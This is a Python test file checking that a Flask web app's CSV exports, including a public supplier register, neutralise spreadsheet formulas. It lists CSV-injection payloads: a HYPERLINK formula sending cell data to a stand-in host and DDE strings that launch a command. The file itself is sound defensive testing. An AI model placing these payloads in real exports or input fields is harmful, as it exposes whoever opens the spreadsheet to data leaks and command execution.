"""Every CSV the application writes neutralises cells a spreadsheet would run as a formula (issue 13, 5):
a supplier's name typed at the counter reaches the public cadastro's CSV as text, and the Painel's
exports go through the same writer."""

from __future__ import annotations

import csv
import io

import pytest
from flask.testing import FlaskClient

from engine import clock
from engine.actors import Actor
from engine.runtime import Runtime
from tests.engine.test_engine_paths import local
from tests.webapp.test_public_pages import classified, client, runtime  # noqa: F401 (fixtures)
from webapp.csv_export import csv_text, neutralise

PAYLOADS = ["=HYPERLINK(\"http://mal.example/?x=\"&A1;\"clique\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_text(payload: str) -> None:
    assert neutralise(payload) == "'" + payload
    [row] = list(csv.reader(io.StringIO(csv_text(["a"], [[payload]]).split("\r\n", 1)[1]), delimiter=";"))
    assert row == ["'" + payload]


def test_plain_values_and_numbers_are_left_alone() -> None:
    assert [neutralise(v) for v in ("Loja Exemplo Ltda", "12.ABC.345/01DE-35", "33,3", 3, -2, 1.5, None)] == [
        "Loja Exemplo Ltda", "12.ABC.345/01DE-35", "33,3", 3, -2, 1.5, None]


def test_the_public_cadastro_csv_neutralises_a_supplier_name(client: FlaskClient, runtime: Runtime,  # noqa: F811
                                                             frozen_clock: clock.FrozenClock, atendente: Actor,
                                                             analista: Actor, complaint: dict[str, str]) -> None:
    frozen_clock.set(local(2026, 3, 2))
    evil = dict(complaint, fornecedor_nome=PAYLOADS[0])
    classified(runtime, frozen_clock, atendente, analista, evil, "fundamentada_nao_atendida", local(2026, 3, 10))
    frozen_clock.set(local(2026, 6, 1))
    text = client.get("/publico/cadastro?ano=2026&formato=csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows[1][2] == "'" + PAYLOADS[0]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
